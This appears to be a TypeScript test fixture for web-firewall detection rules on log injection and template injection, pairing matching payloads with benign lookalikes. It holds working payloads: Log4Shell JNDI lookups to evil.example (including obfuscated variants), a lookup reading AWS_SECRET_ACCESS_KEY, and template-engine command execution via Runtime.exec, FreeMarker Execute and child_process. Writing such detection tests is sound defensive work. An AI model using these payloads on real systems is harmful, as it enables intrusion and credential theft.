import { type Cases, agent, form, get, header, json, query } from '../../testing.ts';

export const templateAndLogInjectionCases: Readonly<Record<string, Cases>> = {
  '100514': {
    hits: [
      agent('${jndi:ldap://evil.example/a}'),
      query('${jndi:rmi://evil.example/a}'),
      header('x-api-version', '${JNDI:dns://x}'),
      get('/$%7Bjndi:ldap://x%7D'),
      form('${jndi:ldap://127.0.0.1#evil.example/a}'),
      { ...json({}), body: '{"u":"\\u0024\\u007bjndi:ldap://x}"}' },
    ],
    misses: [query('jndi: ldap tutorial'), agent('${name}'), json({ t: '${jndiName}' })],
  },
  '100515': {
    hits: [
      agent('${${lower:j}ndi:${lower:l}dap://evil.example/a}'),
      query('${${::-j}${::-n}${::-d}${::-i}:rmi://x}'),
      header('referer', '${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}'),
      form('${j${k8s:k5:-ND}i:ldap://x}'),
      header('x-forwarded-for', '${${upper:${lower:j}}ndi:ldap://x}'),
    ],
    misses: [json({ compose: '${PORT:-${DEFAULT_PORT}}' }), json({ js: '`${a ? `${b}` : 1}`' })],
  },
  '100516': {
    hits: [agent('%24%7Bjndi:ldap://x%7D'), header('x-id', 'jndi:ldap://evil.example/')],
    misses: [header('referer', 'https://example.com/?p=%24%7Bprice%7D'), agent('jndi-client/1.0')],
  },
  '100517': {
    hits: [agent('${env:AWS_SECRET_ACCESS_KEY}'), query('${sys:java.version}')],
    misses: [query('${env}'), agent('${environment}')],
  },
  '100061': {
    hits: [
      query('{{7*7}}'),
      form('${7*7}'),
      query("{{7*'7'}}"),
      query('<%= 7 * 7 %>'),
      header('x-name', '#{3*3}'),
    ],
    misses: [json({ t: 'Hello {{ name }}, {{count}} items' }), query('7*7'), json({ sheet: '{ 2*3 }' })],
  },
  '100062': {
    hits: [
      query("{{''.__class__.__mro__[1].__subclasses__()}}"),
      query('{{config.items()}}'),
      form('{{ _self.env.display("x") }}'),
      query('{{lipsum.__globals__}}'),
    ],
    misses: [json({ t: '{{ user.class }} {{ configuration }}' }), form('def __init__(self): pass')],
  },
  '100063': {
    hits: [
      query("${T(java.lang.Runtime).getRuntime().exec('id')}"),
      query('<#assign ex="freemarker.template.utility.Execute"?new()>'),
      get('/__%24%7Bnew%20java.util.Scanner()%7D__::.x'),
    ],
    misses: [query('java.lang.Runtime documentation'), query('t(java) shirt')],
  },
  '100063B': {
    hits: [
      form("${T(java.lang.Runtime).getRuntime().exec('id')}"),
      json({ t: '${"freemarker.template.utility.Execute"?new()("id")}' }),
    ],
    misses: [
      json({ code: 'Runtime.getRuntime().availableProcessors();' }),
      form('java.lang.Runtime is a class'),
    ],
  },
  '100064': {
    hits: [
      query("{{constructor.constructor('alert(1)')()}}"),
      query('<%= system("id") %>'),
      query("require('child_process').exec('id')"),
      query('#{`id`}'),
    ],
    misses: [
      json({ code: 'class A { constructor() { this.x = 1 } }' }),
      form("const x = require('express')"),
    ],
  },
  '100064B': {
    hits: [query('{php}echo 1;{/php}'), form("{system('id')}"), query('{smarty.template_object}')],
    misses: [query('php {8.3}'), form('{{ system }} and {if paid}')],
  },
  '100065': {
    hits: [query('<!--#exec cmd="ls"-->'), form('<esi:include src="http://x"/>')],
    misses: [form('<!-- #content begins here -->'), form('<!-- include the footer -->')],
  },
};
